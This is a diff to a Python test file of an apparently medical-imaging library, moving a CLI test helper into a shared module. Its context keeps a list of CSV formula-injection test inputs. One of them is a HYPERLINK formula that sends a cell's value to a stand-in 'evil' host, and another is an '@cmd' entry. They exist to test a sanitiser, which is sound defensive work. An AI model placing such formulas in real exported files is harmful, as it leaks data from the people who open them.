@@ -10,6 +10,7 @@ import numpy as np
 import pydicom
 import pytest
 
+from cli_helpers import cli_error as _cli
 from DoseSegLib.cli.main import main
 from DoseSegLib.core.case import Case
 from DoseSegLib.core.errors import DoseSegError
@@ -19,11 +20,6 @@ from DoseSegLib.io.tables import neutralise, write_csv
 
 REPO = Path(__file__).resolve().parents[1]
 FORMULAS = ['=HYPERLINK("http://evil/?"&A1,"click")', "+SUM(1,2)", "-2+3", "@cmd", "\tx", "\r=1", "=1+2"]
-
-
-def _cli(capsys: pytest.CaptureFixture, *argv: str | Path) -> tuple[int, str]:
-    code = main([str(a) for a in argv])
-    return code, capsys.readouterr().err
 
 
 # --- 9. CSV formula injection ----------------------------------------------------------------------------------
